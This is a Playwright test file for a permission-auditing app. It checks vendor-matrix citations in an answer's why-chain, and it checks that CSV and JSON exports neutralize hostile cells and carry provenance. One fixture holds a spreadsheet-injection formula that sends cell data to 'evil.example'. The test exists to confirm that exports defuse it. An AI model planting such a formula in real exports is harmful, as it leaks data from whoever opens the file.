// Answers an auditor can trace and hand on: the why-chain cites the vendor's page by title with the
// quoted line decoded, opens that page at the line; exports neutralize hostile cells and carry provenance.
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import Papa from 'papaparse';
import { expect, openApp, pressFind, screenshot, screenshotBoth, test } from './fixtures';

test('the why-chain cites the vendor page readably and opens it at the cited line', async ({ page, host }) => {
  await host.importSample('hyas-protect-mssp.csv', 'hyas-protect');
  await openApp(page, host, 'who-can');
  await pressFind(page);
  await page.getByRole('combobox', { name: 'Permission' }).fill('view blocking mode');
  await page.getByRole('option', { name: /View Blocking Mode/ }).click();
  const answer = page.getByRole('region', { name: 'Answer' });
  // 205 grants: the list draws the rows in view, so find Lena's by filtering (the back end filters).
  await answer.getByRole('searchbox', { name: 'Filter the answer' }).fill('lena.fischer');
  await answer.getByRole('button', { name: /Why can lena\.fischer@harborline-sec\.example/ }).click();

  const chain = answer.getByRole('list', { name: 'Why' });
  const citation = chain.getByRole('button', { name: /^HYAS Protect — “User Roles and Permissions Matrix”, line 16/ });
  // Lena is an MSSP Analyst: the citation quotes that role's cell of the vendor's matrix row.
  await expect(citation).toContainText('“View Blocking Mode — MSSP Analyst: ✗ UI ✓ API”');
  await expect(chain).not.toContainText('002_6448edd43804835f.txt');
  await expect(chain).not.toContainText('π');
  await expect(citation).toHaveAttribute(
    'title',
    /Partner Admin ✓ · MSSP Admin ✓ · MSSP Analyst ✗ UI ✓ API · .*Protect Executive ✗ UI ✓ API/,
  ); // the whole row on hover
  await screenshot(page, 'who-can-why-citation');

  // From the keyboard: focus the citation, Enter opens the page with the cited line marked and in view.
  await citation.focus();
  await page.keyboard.press('Enter');
  const viewer = page.getByRole('dialog', { name: 'HYAS Protect — “User Roles and Permissions Matrix”' });
  await expect(viewer).toBeVisible();
  const cited = viewer.locator('[aria-current="true"]');
  await expect(cited).toHaveCount(1);
  await expect(cited).toContainText('16');
  await expect(cited).toContainText('View Blocking Mode | ✓ | ✓ | ✗ UI ✓ API | ✓ | ✗ UI ✓ API | ✗ UI ✓ API |');
  await expect(cited).toBeInViewport();
  await expect(viewer).toContainText('User Roles and Permissions Matrix'); // line 1, the heading
  await expect(viewer.getByRole('list', { name: /line by line/ })).not.toContainText('π');
  await screenshotBoth(page, 'seed-viewer');

  await page.keyboard.press('Escape');
  await expect(viewer).toBeHidden();
  await expect(citation).toBeFocused();
});

test('exports: a hostile name comes out neutralized in the CSV; the JSON carries provenance and readable citations', async ({
  page,
  host,
}) => {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'permaudit-hostile-'));
  const file = path.join(dir, 'hostile.csv');
  const hostile = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
  fs.writeFileSync(
    file,
    [
      'email,name,role,account,organization',
      `mallory@bayside.example,"${hostile.replace(/"/g, '""')}",Admin,Northwind MSP,Bayside Dental`,
      'ada@northwind.example,Ada Lovelace,Admin,Northwind MSP,',
    ].join('\n') + '\n',
  );
  let snapshotId: number;
  try {
    snapshotId = (
      await host.call<{ id: number }>('importFiles', { files: [await host.upload(file)], platform: 'huntress', name: 'Hostile' })
    ).id;
  } finally {
    fs.rmSync(dir, { recursive: true, force: true });
  }
  await openApp(page, host, 'who-can');
  await pressFind(page);
  await page.getByRole('combobox', { name: 'Permission' }).fill('approve assisted');
  await page.getByRole('option', { name: /Approve Assisted Remediation/ }).click();
  const scope = page.getByRole('combobox', { name: 'Scope' });
  await scope.click();
  await scope.fill('Bayside');
  await page.keyboard.press('Enter');
  // Both people can anywhere too: wait for the answer at the scope, not just its count.
  await expect(page.getByTestId('who-can-summary')).toContainText('at Northwind MSP/Bayside Dental');
  await expect(page.getByTestId('who-can-summary')).toContainText('2 people can');

  const day = new Date().toISOString().slice(0, 10);
  const csvDownload = page.waitForEvent('download');
  await page.getByRole('button', { name: 'Export CSV' }).click();
  const csv = await csvDownload;
  expect(csv.suggestedFilename()).toBe(
    `huntress-snapshot-${snapshotId}-northwind-msp-bayside-dental-who-can-approve-assisted-remediation-${day}.csv`,
  );
  const text = fs.readFileSync(await csv.path(), 'utf8');
  const rows = Papa.parse<Record<string, string>>(text, { header: true, newline: '\r\n', skipEmptyLines: true }).data;
  const mallory = rows.find((r) => r.email === 'mallory@bayside.example');
  expect(mallory?.name).toBe(`'${hostile}`);
  expect(mallory?.grant_source).toMatch(/^Huntress — “Setting Huntress User Permissions”, lines \d+/);
  expect(mallory?.import_row).toBe('hostile.csv:2');

  const jsonDownload = page.waitForEvent('download');
  await page.getByRole('button', { name: 'Export JSON' }).click();
  const json = await jsonDownload;
  expect(json.suggestedFilename()).toBe(csv.suggestedFilename().replace(/\.csv$/, '.json'));
  const exported = JSON.parse(fs.readFileSync(await json.path(), 'utf8'));
  expect(exported.provenance).toMatchObject({
    generator: { name: 'Permission Auditor' },
    snapshot: { id: snapshotId, name: 'Hostile', platform: 'huntress', platformName: 'Huntress', modelVersion: '2022-06' },
    sourceFiles: [{ name: 'hostile.csv', sha256: expect.stringMatching(/^[0-9a-f]{64}$/) }],
    question: { kind: 'who-can', permission: 'remediation.approve', scope: 'Northwind MSP/Bayside Dental', channel: null },
  });
  expect(exported.provenance.generatedAt).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/);
  expect(exported.entries.find((e: { email: string }) => e.email === 'mallory@bayside.example').grantSource[0]).toMatchObject({
    title: 'Setting Huntress User Permissions',
    platform: 'Huntress',
  });
});
